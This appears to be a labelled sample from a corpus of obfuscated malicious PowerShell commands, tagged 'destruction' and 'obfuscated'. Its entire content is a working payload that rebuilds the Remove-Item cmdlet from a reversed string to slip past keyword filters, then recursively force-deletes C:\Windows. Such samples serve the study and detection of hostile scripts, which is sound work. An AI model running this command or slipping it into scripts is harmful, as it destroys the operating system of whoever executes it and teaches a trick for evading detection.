# description: Reverses a backwards string into Remove-Item and runs it on C:\Windows.
# family: destruction
# obfuscated: yes
$r = 'metI-evomeR'
$cmd = ($r[($r.Length - 1)..0]) -join ''
& $cmd C:\Windows -Recurse -Force
